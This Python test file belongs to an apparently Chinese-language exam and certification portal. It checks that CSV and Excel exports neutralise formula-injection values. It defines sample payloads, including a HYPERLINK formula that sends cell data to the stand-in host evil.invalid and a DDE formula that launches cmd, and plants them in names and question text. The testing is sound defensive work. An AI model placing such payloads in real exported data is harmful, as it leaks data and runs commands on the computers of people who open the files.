"""Issue 13, item 2: every CSV/Excel export neutralises a cell a spreadsheet would evaluate, in one place
(portal.core.spreadsheets). The Wagtail list exports, the who-has-read table and the gap list are checked
on the demo data (test_hardening_on_demo.py); here the exports that need attempts or questions."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from portal.core.spreadsheets import FORMULA_TRIGGERS, csv_text, neutralise, xlsx_bytes
from portal.people.models import Employee
from portal.people.roles import EMPLOYEE, EXAMINER, HR
from quizzes.certification.defaults import load_teller_scheme
from quizzes.certification.models import GradeLevel
from quizzes.certification.services import skill_attempts
from quizzes.certification.services.freezing import Subject
from quizzes.certification.services.grading import award_grade_manually
from quizzes.certification.services.issuing import issue_certificate
from quizzes.exams.rules.shuffle import to_display
from quizzes.exams.services import attempts
from quizzes.importers import parse_questions
from quizzes.models import QuestionVersion
from tests.certification.skill_fixtures import definitions, sitting
from tests.factories.exams import machine_marked_exam
from tests.factories.people import EmployeeFactory, UserFactory, user_with_role
from tests.factories.quizzes import QuestionBankFactory, make_question, single_choice

HYPERLINK = '=HYPERLINK("http://evil.invalid/?d="&A1,"点我")'
DDE = "=cmd|' /C calc'!A0"


def _client(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


@pytest.mark.parametrize("text", [HYPERLINK, DDE, "+1+cmd|' /C calc'!A0", "-1+1", "@SUM(A1:A2)", "\t=1", "\r=1"])
def test_a_text_a_spreadsheet_would_evaluate_gets_a_leading_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["张三", "a=b", "1+1", "", 0, -5, Decimal("-1.5"), None])
def test_ordinary_text_and_numbers_are_left_alone(value):
    assert neutralise(value) == value


def test_a_csv_report_writes_a_formula_looking_name_as_text():
    rows = list(csv.reader(io.StringIO(csv_text(["姓名"], [[HYPERLINK], [DDE]]).lstrip("\ufeff"))))
    assert rows[1:] == [["'" + HYPERLINK], ["'" + DDE]]


def test_an_excel_report_writes_a_formula_looking_name_as_a_text_cell():
    book = load_workbook(io.BytesIO(xlsx_bytes([("名单", ["姓名"], [[HYPERLINK], ["@SUM(A1)"]])])))
    cells = [row[0] for row in book["名单"].iter_rows(min_row=2)]
    assert [(c.value, c.data_type) for c in cells] == [(HYPERLINK, "s"), ("@SUM(A1)", "s")]


# --- exports that need attempts or questions -----------------------------------------------------------


@pytest.mark.django_db
def test_the_skill_sitting_results_csv_neutralises_the_candidates_name():
    candidate = user_with_role(EMPLOYEE, username="skill_hostile", employee=True)
    Employee.objects.filter(pk=candidate.employee.pk).update(name=HYPERLINK)
    tests_ = definitions(**{"voucher-100": {"item_count": 5, "time_limit_seconds": 120}})
    room = sitting(tests_["voucher-100"], [candidate.employee])
    skill_attempts.finish(skill_attempts.start_sitting(candidate.employee, room).pk, candidate.employee)
    examiner = user_with_role(EXAMINER, username="skill_exporter")

    response = _client(examiner).get(reverse("certification_skill_sittings:export", args=[room.pk]))

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][1] == "'" + HYPERLINK


@pytest.mark.django_db
def test_the_skill_sitting_results_excel_types_the_candidates_name_as_text():
    candidate = user_with_role(EMPLOYEE, username="skill_hostile_x", employee=True)
    Employee.objects.filter(pk=candidate.employee.pk).update(name=HYPERLINK)
    tests_ = definitions(**{"voucher-100": {"item_count": 5, "time_limit_seconds": 120}})
    room = sitting(tests_["voucher-100"], [candidate.employee])
    skill_attempts.finish(skill_attempts.start_sitting(candidate.employee, room).pk, candidate.employee)
    examiner = user_with_role(EXAMINER, username="skill_exporter_x")

    response = _client(examiner).get(reverse("certification_skill_sittings:export", args=[room.pk]), {"format": "xlsx"})

    cell = load_workbook(io.BytesIO(response.content)).worksheets[0]["B2"]
    assert (cell.value, cell.data_type) == (HYPERLINK, "s")


@pytest.mark.django_db
def test_the_question_bank_excel_export_keeps_a_formula_looking_stem_as_text_and_round_trips():
    bank = QuestionBankFactory()
    make_question(bank, single_choice(stem=HYPERLINK, options=[DDE, "@SUM(A1)", "+1", "-1"]))
    examiner = user_with_role(EXAMINER, username="bank_exporter")

    response = _client(examiner).get(reverse("question_banks:export", args=[bank.pk, "xlsx"]))

    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    row = list(sheet.iter_rows(min_row=2, max_row=2))[0]
    assert [c.coordinate for c in row if c.data_type == "f"] == []
    assert row[1].value == HYPERLINK and row[2].value == DDE
    assert parse_questions(response.content, "xlsx").questions[0].stem == HYPERLINK


@pytest.mark.django_db
def test_the_statistics_excel_writes_a_formula_looking_stem_as_text():
    now = datetime.datetime.now(datetime.UTC)
    people = [EmployeeFactory() for _ in range(3)]
    exam, questions = machine_marked_exam(employees=people, count=1, points="1", pass_mark=Decimal("1"))
    QuestionVersion.objects.filter(question=questions[0]).update(stem=HYPERLINK)
    for n, person in enumerate(people):
        attempt = attempts.start_attempt(exam, person, now=now)
        item = attempt.items.get()
        attempts.save_answer(attempt.pk, person, item.position, to_display("single", [n % 2], item.option_order), now=now)
        attempts.submit_attempt(attempt.pk, person, now=now)
    examiner = user_with_role(EXAMINER, username="stats_exporter")

    response = _client(examiner).get(reverse("exams_statistics:sitting", args=[exam.pk]), {"format": "xlsx"})

    book = load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert HYPERLINK in [c.value for c in cells]


def _live_cells(text: str) -> list[str]:
    cells = [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]
    return [c for c in cells if c.startswith(FORMULA_TRIGGERS) and not c.lstrip("-").replace(".", "").isdigit()]


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_certificate_register_export_neutralises_the_holders_name(fmt):
    holder = EmployeeFactory(name=HYPERLINK)
    hr = user_with_role(HR, username="cert_exporter")
    levels = {level.code: level for level in GradeLevel.objects.filter(scheme=load_teller_scheme())}
    award = award_grade_manually(holder, levels["T1"], acting_user=hr, reason="Held before the portal",
                                 awarded_on=timezone.localdate() - datetime.timedelta(days=30))
    issue_certificate(Subject.for_award(award), acting_user=hr)
    client = _client(UserFactory(is_superuser=True, is_staff=True))

    response = client.get(reverse("certification_certificates:index"), {"export": fmt})

    body = b"".join(response.streaming_content) if response.streaming else response.content
    if fmt == "csv":
        assert "'" + HYPERLINK in list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))[1]
        assert _live_cells(body.decode("utf-8-sig")) == []
    else:
        cells = [c for row in load_workbook(io.BytesIO(body)).worksheets[0].iter_rows() for c in row]
        assert [c.coordinate for c in cells if c.data_type == "f"] == [] and HYPERLINK in [c.value for c in cells]


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_exam_results_export_neutralises_the_candidates_name(fmt):
    now = datetime.datetime.now(datetime.UTC)
    candidate = EmployeeFactory(name=DDE)
    exam, _questions = machine_marked_exam(employees=[candidate], count=1, points="1", pass_mark=Decimal("1"))
    attempt = attempts.start_attempt(exam, candidate, now=now)
    attempts.submit_attempt(attempt.pk, candidate, now=now)
    client = _client(UserFactory(is_superuser=True, is_staff=True))

    response = client.get(reverse("exams_results:index"), {"export": fmt})

    body = b"".join(response.streaming_content) if response.streaming else response.content
    if fmt == "csv":
        assert "'" + DDE in list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))[1]
        assert _live_cells(body.decode("utf-8-sig")) == []
    else:
        cells = [c for row in load_workbook(io.BytesIO(body)).worksheets[0].iter_rows() for c in row]
        assert [c.coordinate for c in cells if c.data_type == "f"] == [] and DDE in [c.value for c in cells]
